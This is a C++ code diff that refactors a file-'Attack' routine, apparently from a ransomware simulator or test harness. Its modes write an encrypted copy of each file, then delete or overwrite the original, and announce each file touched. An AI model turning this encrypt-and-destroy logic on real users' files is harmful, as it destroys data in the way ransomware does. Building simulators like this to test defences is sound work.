@@ -114,6 +114,23 @@ std::string Encrypted(std::string data) {
   return data;
 }
 
+// Writes an encrypted copy of `from` to a new file `to`; `shown` is the name announced.
+bool EncryptedCopy(const std::string& from, const std::string& to, const std::string& shown,
+                   bool die_half) {
+  int in = open(from.c_str(), O_RDONLY | O_CLOEXEC);
+  if (in < 0) return false;
+  std::string data;
+  bool ok = ReadAll(in, &data);
+  close(in);
+  if (!ok) return false;
+  int out = open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+  if (out < 0) return false;
+  Say("touch " + shown);
+  ok = WriteAt(out, Encrypted(data), 0, die_half);
+  close(out);
+  return ok;
+}
+
 // One file, according to the mode. Returns false when the file could not be touched.
 bool Attack(const Options& o, const std::string& path, bool die_half,
             const std::vector<std::string>& dirs) {
@@ -129,36 +146,12 @@ bool Attack(const Options& o, const std::string& path, bool die_half,
     p = dest;
   }
   if (o.mode == "copy-delete") {
-    int in = open(p.c_str(), O_RDONLY | O_CLOEXEC);
-    if (in < 0) return false;
-    std::string data;
-    bool ok = ReadAll(in, &data);
-    close(in);
-    if (!ok) return false;
-    std::string dest = p + "." + o.ext;
-    int out = open(dest.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-    if (out < 0) return false;
-    Say("touch " + path);
-    ok = WriteAt(out, Encrypted(data), 0, die_half);
-    close(out);
-    if (!ok) return false;
-    return unlink(p.c_str()) == 0;
+    return EncryptedCopy(p, p + "." + o.ext, path, die_half) && unlink(p.c_str()) == 0;
   }
   if (o.mode == "replace") {
     // Encrypted copy under a temporary name, then renamed over the original.
-    int in = open(p.c_str(), O_RDONLY | O_CLOEXEC);
-    if (in < 0) return false;
-    std::string data;
-    bool ok = ReadAll(in, &data);
-    close(in);
-    if (!ok) return false;
     std::string tmp = p + ".tmp~";
-    int out = open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-    if (out < 0) return false;
-    Say("touch " + path);
-    ok = WriteAt(out, Encrypted(data), 0, die_half);
-    close(out);
-    return ok && rename(tmp.c_str(), p.c_str()) == 0;
+    return EncryptedCopy(p, tmp, path, die_half) && rename(tmp.c_str(), p.c_str()) == 0;
   }
   int fd = open(p.c_str(), O_RDWR | O_CLOEXEC);
   if (fd < 0) return false;
